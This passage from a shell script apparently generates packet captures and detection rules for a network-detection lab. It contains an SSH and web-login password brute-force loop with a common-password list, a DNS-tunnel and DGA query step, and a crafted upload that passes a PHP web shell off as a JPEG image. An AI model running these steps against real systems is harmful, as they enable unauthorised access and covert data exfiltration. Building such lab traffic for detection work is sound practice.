              1qaz2wsx matkhau Matkhau@123 congthongtin 111111 Tinh@2024 admin2024 000000 iloveyou letmein)

scenario_bruteforce() {
  local c
  for c in "${BRUTE_CREDS[@]}"; do
    net env SSH_ASKPASS="$WORK/askpass.sh" SSH_ASKPASS_REQUIRE=force HD_PW="${c#*:}" \
      ssh -F /dev/null -b "$ATK_IP" -o BatchMode=no -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null -o GlobalKnownHostsFile=/dev/null -o ConnectTimeout=5 \
        -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
        -o KexAlgorithms=curve25519-sha256 -o HostKeyAlgorithms=ssh-ed25519 -o Ciphers=aes128-ctr \
        -o MACs=hmac-sha2-256 "${c%%:*}@$H20" true </dev/null >>"$WORK/ssh-client.log" 2>&1 || true
    gap 0.1
  done
  gap 1
  local pw
  for pw in "${BRUTE_WEB_PW[@]}"; do
    net curl -sS -o /dev/null --max-time 5 --interface "$ATK_IP" -A "$UA_BRUTE" \
        --resolve "$PORTAL_HOST:80:$H20" --data-urlencode "username=admin" --data-urlencode "password=$pw" \
        "http://$PORTAL_HOST/login" >>"$WORK/client.log" 2>&1 || true
    gap 0.1
  done
}

scenario_dns-tunnel() {
  h11 "$PY" "$WORK/tunnel.py" "$DNS_IP" "$TUN_DOMAIN" 200 0.03 >>"$WORK/tunnel.log"
  gap 1
  local d
  while read -r d; do q "$NS_H11" A "$d"; gap 0.1; done <"$WORK/dga.txt"
}

# ---------------------------------------------------------------- main
CAPTURES=(c2-beacon two-hosts allowlisted webshell download portscan bruteforce dns-tunnel)
# 64 TCP ports (a "top ports" list), in scan order
SCAN_PORTS=21,22,23,25,53,80,81,88,110,111,135,139,143,389,443,445,465,502,587,593,636,873,993,995,1025,1080,1433,1521,1723,1883,2049,2082,2083,2181,2375,3000,3128,3306,3389,4443,5000,5060,5432,5601,5900,5985,6379,7001,8000,8008,8080,8081,8088,8443,8888,9000,9090,9200,9300,10000,11211,27017,50000,50070
BOUNDARY=----WebKitFormBoundaryHdLab7MA4YWxk

log "work dir $WORK, output $OUT"
[ -r "$DGA_SOURCE" ] || { echo "make-detect-captures.sh: DGA list $DGA_SOURCE not readable (set HD_DGA_CSV)" >&2; exit 1; }
# the first 20 names of the nDPI DGA test list whose first label is 12+ characters long
awk -F, 'n < 20 && length($1) > 0 { split($1, l, "."); if (length(l[1]) >= 12) { print $1; n++ } }' \
    "$DGA_SOURCE" >"$WORK/dga.txt"
[ "$(wc -l <"$WORK/dga.txt")" = 20 ] || { echo "make-detect-captures.sh: could not take 20 DGA names" >&2; exit 1; }
write_helpers
"$PY" - "$WORK/samples/cmd.php" "$WORK/upload.body" "$BOUNDARY" <<'EOF'
# multipart/form-data body of the upload (fixed boundary, so it is the same every run)
import sys
shell, out, b = open(sys.argv[1], "rb").read(), sys.argv[2], sys.argv[3].encode()
body = (b"--" + b + b'\r\nContent-Disposition: form-data; name="MAX_FILE_SIZE"\r\n\r\n2097152\r\n'
        + b"--" + b + b'\r\nContent-Disposition: form-data; name="anh"; filename="anh-dai-dien.php"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n" + shell + b"\r\n"
        + b"--" + b + b'\r\nContent-Disposition: form-data; name="submit"\r\n\r\nT\xe1\xba\xa3i l\xc3\xaan\r\n'
        + b"--" + b + b"--\r\n")
open(out, "wb").write(body)
EOF
setup_netns
make_certs
start_servers
STAGE="$WORK/out"; mkdir -p "$STAGE/rules/ioc" "$STAGE/rules/allow" "$STAGE/samples"

for c in "${CAPTURES[@]}"; do
  log "capturing $c"
  cap_start "$c.pcap"
  "scenario_$c"
  cap_stop
  cp "$WORK/$c.pcap" "$STAGE/$c.pcap"
done
cp "$WORK/samples/cmd.php" "$WORK/samples/b64.php" "$STAGE/samples/"
grep -E 'Failed password|not allowed' "$WORK/sshd.log" >"$WORK/sshd-fail.log" || true

log "verifying, writing rules and README.md"
FACTS_ENV=(C2_DOMAIN="$C2_DOMAIN" C2_IP="$C2_IP" PHISH_DOMAIN="$PHISH_DOMAIN" PHISH_IP="$PHISH_IP"
  VENDOR_DOMAIN="$VENDOR_DOMAIN" VENDOR_IP="$VENDOR_IP" DL_DOMAIN="$DL_DOMAIN" DL_IP="$DL_IP"
  TUN_DOMAIN="$TUN_DOMAIN" SCAN_IP="$SCAN_IP" SCAN_PORTS="$SCAN_PORTS" SWEEP_NET="$SWEEP_NET"
  SWEEP_FIRST="$SWEEP_FIRST" SWEEP_LAST="$SWEEP_LAST" SWEEP_PORT="$SWEEP_PORT" STAGE_IP="$STAGE_IP"
  ATK_IP="$ATK_IP" DNS_IP="$DNS_IP" PORTAL_HOST="$PORTAL_HOST" UA_C2="$UA_C2" C2_CIPHERS="$C2_CIPHERS"
  C2_CURVES="$C2_CURVES" BEACONS="$BEACONS" BEACON_INTERVAL="$BEACON_INTERVAL" DGA_SOURCE="$DGA_SOURCE")
env "${FACTS_ENV[@]}" "$PY" "$WORK/facts.py" "$STAGE" "$WORK"
